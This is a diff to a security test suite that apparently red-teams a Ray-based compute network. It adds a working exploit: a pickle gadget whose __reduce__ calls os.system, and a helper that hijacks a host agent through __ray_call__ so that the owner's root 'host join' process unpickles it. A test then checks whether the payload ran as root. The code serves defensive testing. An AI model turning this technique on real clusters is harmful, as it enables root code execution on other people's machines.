@@ -338,6 +338,36 @@ def _become_root(node_id: str) -> str:
     return str(_on_victim_node(node_id, escalate))
 
 
+class _RunOnUnpickle:
+    """A value whose unpickling runs a shell command: what a process that unpickles it, runs."""
+
+    def __init__(self, command: str) -> None:
+        self.command = command
+
+    def __reduce__(self) -> tuple[Any, ...]:
+        return (os.system, (self.command,))
+
+
+def _hand_root_a_pickle(namespace: str, victim: str, command: str) -> str:
+    """Take over the host's agent (any member may run a closure inside any actor: ``__ray_call__``) and have its
+    next answer to the `host join` process that started it, which polls it twice a second, be a pickle that runs
+    ``command`` wherever it is unpickled."""
+
+    def plant(instance: Any, command: str) -> str:
+        logic = instance._agent
+        original = logic.view
+
+        def view() -> Any:
+            logic.view = original  # once: the host goes on working for the attacks after this one
+            return _RunOnUnpickle(command)
+
+        logic.view = view
+        return f"planted in pid {os.getpid()} (uid {os.getuid()})"
+
+    agent = ray.get_actor(f"host-agent:{victim}", namespace=namespace)
+    return str(ray.get(agent.__ray_call__.remote(plant, command), timeout=30))
+
+
 def _docker(node_id: str) -> str:
     def reach() -> str:
         import socket
@@ -573,3 +603,25 @@ def test_a_joined_node_cannot_lift_a_workloads_limits_by_calling_a_host(network:
     what = on_attacker(_lift_limits, network.settings.ray_namespace, host_id(network), spec)
     record("hand a host a job with limits beyond its signed tier", "prevented",
            "prevented" if what.startswith("stopped") else "possible", what)
+
+
+def test_a_joined_node_cannot_make_the_owners_process_run_its_code(network: EmbeddedNetwork,
+                                                                  attacker: RayNodeProcess) -> None:
+    """`host join` runs as the machine's owner (root here: it runs the gate). Whatever it unpickles from Ray, a
+    member of the cluster can choose: it may run code in the host's agent and make the agent's answers pickles."""
+    drop = Path(tempfile.mkdtemp(prefix="archipelag-red-team-drop-"))
+    drop.chmod(0o1777)  # anyone may write here: the file's content says who did
+    marker = drop / "ran-as"
+    try:
+        planted = on_attacker(_hand_root_a_pickle, network.settings.ray_namespace, host_id(network),
+                              f"id -u > {marker}")
+        deadline = time.monotonic() + 10
+        while time.monotonic() < deadline and not marker.exists():
+            time.sleep(0.2)
+        ran_as = marker.read_text().strip() if marker.exists() else None
+        what = f"{planted}; the payload ran as uid {ran_as}" if ran_as is not None else \
+            f"{planted}; the payload did not run within 10 s"
+        record("make the owner's `host join` process (root) run its code, through the host's agent", "prevented",
+               "possible" if ran_as == "0" else "prevented", what)
+    finally:
+        shutil.rmtree(drop, ignore_errors=True)
